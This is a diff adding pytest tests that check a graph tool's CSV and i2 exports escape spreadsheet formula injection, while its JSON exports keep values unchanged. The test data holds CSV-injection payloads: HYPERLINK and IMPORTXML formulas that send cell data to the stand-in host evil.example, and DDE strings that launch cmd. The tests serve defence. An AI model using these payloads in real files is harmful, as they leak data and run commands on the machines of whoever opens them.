@@ -183,3 +183,56 @@ def test_export_bytes_for_the_api(world: GraphStore) -> None:
         links = z.read("i2_links.csv").decode("utf-8-sig")
     # header, the HOLDS claim between the two ids, and Tan's MENTIONED_IN claim (its source comes along)
     assert "HOLDS" in links and "MENTIONED_IN" in links and links.count("\n") == 3
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "alias": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "quote": "-2+3+cmd|' /C calc'!A0",
+    "title": "\t=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
+    "handle": "+1 555 0100",
+    "carriage": "\r=1+1",
+}
+
+
+def _hostile_view(world: GraphStore, profile: str) -> ExportView:
+    view = build_view(world, profile)
+    lotus = view.entities["compound-golden-lotus"]
+    lotus.name = HOSTILE["name"]
+    lotus.aliases = [HOSTILE["alias"], *lotus.aliases]
+    lotus.properties = {**lotus.properties, "lon": -3.5, "status": HOSTILE["carriage"]}
+    view.claims[0].quote = HOSTILE["quote"]
+    source = view.sources[view.claims[0].source]
+    source.title = HOSTILE["title"]
+    source.publisher = HOSTILE["handle"]
+    return view
+
+
+@pytest.mark.parametrize("fmt", ["csv", "i2"])
+def test_spreadsheet_cells_never_start_a_formula(world: GraphStore, fmt: str) -> None:
+    view = _hostile_view(world, "internal")
+    files = render(view, fmt)
+    seen: list[str] = []
+    for name, data in files.items():
+        assert data.startswith("\ufeff".encode()), f"{name} lacks the UTF-8 BOM Excel needs"
+        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
+            for cell in row:
+                seen.append(cell)
+                if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    float(cell)  # only a number may start with a sign (a negative longitude)
+    for value in (HOSTILE["name"], HOSTILE["quote"], HOSTILE["title"]):
+        assert "'" + value in seen, f"{value!r} was not written as text"
+    if fmt == "i2":
+        assert "-3.5" in seen  # a number stays a number
+    text = b"".join(files.values()).decode("utf-8-sig")
+    assert "ဂျိတ်မြစ်" in text and "金莲园区" in text  # Burmese and Chinese names travel as UTF-8
+
+
+def test_json_formats_carry_values_unchanged(world: GraphStore) -> None:
+    view = _hostile_view(world, "internal")
+    doc = json.loads(_one(render(view, "cytoscape")))
+    lotus = next(n["data"] for n in doc["elements"]["nodes"] if n["data"]["id"] == "compound-golden-lotus")
+    assert lotus["name"] == HOSTILE["name"]
+    records = [json.loads(line) for line in _one(render(view, "jsonl")).splitlines()]
+    assert any(r.get("name") == HOSTILE["name"] for r in records)
+    assert any(r.get("quote") == HOSTILE["quote"] for r in records)
